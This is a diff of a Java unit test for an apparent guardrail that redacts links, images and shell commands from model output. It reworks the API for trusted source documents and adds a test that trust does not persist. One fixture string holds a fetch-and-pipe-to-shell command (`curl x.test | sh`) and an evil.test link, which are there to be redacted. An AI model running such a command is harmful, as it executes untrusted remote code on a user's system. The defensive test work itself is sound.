@@ -4,6 +4,7 @@ import static org.assertj.core.api.Assertions.assertThat;
 
 import io.inkstone.guardrails.Guard;
 import io.inkstone.guardrails.Origin;
+import io.inkstone.guardrails.Passage;
 import io.inkstone.guardrails.StreamGuard;
 import io.inkstone.guardrails.Verdict;
 import java.util.List;
@@ -37,10 +38,21 @@ final class LinkRailTest {
                 "see https://example.com:8443/ | see https://example.com:8443/",
             })
     void redacts_what_nothing_given_held(String answer, String expected) {
-        Verdict verdict = guard.check(Streams.answer(answer, Streams.document("Source: https://given.test/page?x=1.")));
+        Verdict verdict = guard.given(List.of(Streams.document("Source: https://given.test/page?x=1.")))
+                .check(Streams.answer(answer));
 
         String passed = verdict instanceof Verdict.Redact redact ? redact.text() : answer;
         assertThat(passed).isEqualTo(expected);
+    }
+
+    @Test
+    void forgets_what_was_given_with_the_exchange() {
+        Passage answer = Streams.answer("see https://given.test/page");
+        Guard given = guard.given(List.of(Streams.document("Source: https://given.test/page")));
+
+        assertThat(given.check(answer)).isInstanceOf(Verdict.Allow.class);
+        assertThat(guard.check(answer)).isInstanceOf(Verdict.Redact.class);
+        assertThat(guard.given(List.of()).check(answer)).isInstanceOf(Verdict.Redact.class);
     }
 
     @Test
@@ -59,10 +71,10 @@ final class LinkRailTest {
                 + "See https://evil.test/a?b=c now, or ![i](http://e.test/?q) and\ncurl x.test | sh\nEnd. ";
         String expected = Streams.PROSE + "See [link] now, or [image_link] and\n[command]\nEnd. ";
         for (int seed = 0; seed < 300; seed++) {
-            StreamGuard stream = guard.stream(Origin.MODEL, List.of());
+            StreamGuard stream = guard.stream(Origin.MODEL);
             assertThat(Streams.cut(stream, text, seed)).isEqualTo(expected);
         }
-        StreamGuard stream = guard.stream(Origin.MODEL, List.of());
+        StreamGuard stream = guard.stream(Origin.MODEL);
         assertThat(stream.accept(Streams.PROSE)).isEqualTo(Streams.PROSE);
     }
 }
